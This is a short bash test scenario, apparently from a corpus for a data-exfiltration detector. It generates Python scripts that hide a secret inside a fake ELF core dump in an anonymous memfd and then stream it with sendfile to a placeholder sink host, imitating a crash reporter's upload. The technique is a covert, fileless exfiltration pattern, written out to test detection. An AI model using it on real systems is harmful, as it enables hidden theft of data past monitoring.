#!/bin/bash
# A-memfd-birth: a crash reporter keeps its core in memory only, and its uploader inherits the descriptor.
# flow: memfd_create, a pause, write of a core; exec; sendfile(2) from the memfd to the socket.
# tools: python3
# expect: sent counted port critical
. "$CORPUS/lib.sh"
cat >uploader.py <<'END'
import os, socket, sys
core = int(sys.argv[1])
sink = socket.create_connection((sys.argv[2], int(sys.argv[3])))
at, size = 0, os.fstat(core).st_size
while at < size:
    at += os.sendfile(sink.fileno(), core, at, size - at)
END
cat >reporter.py <<'END'
import os, struct, sys, time
secret = sys.argv[1].encode() * 30000
core = os.memfd_create("report", 0)
time.sleep(.1)
head = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 4, 62, 1, 0, 64, 0, 0, 64, 56, 1, 0, 0, 0)
head += struct.pack("<IIQQQQQQ", 1, 6, 120, 1 << 40, 0, len(secret), len(secret), 1)
os.write(core, head + secret)
time.sleep(.1)
os.execv(sys.executable, ["python3", "uploader.py", str(core), *sys.argv[2:]])
END
sink tcp
python3 reporter.py "$MARKER" "$SINK" "$PORT" || fail "the reporter failed"
note "dump /memfd:report (deleted)"
sunk 500000
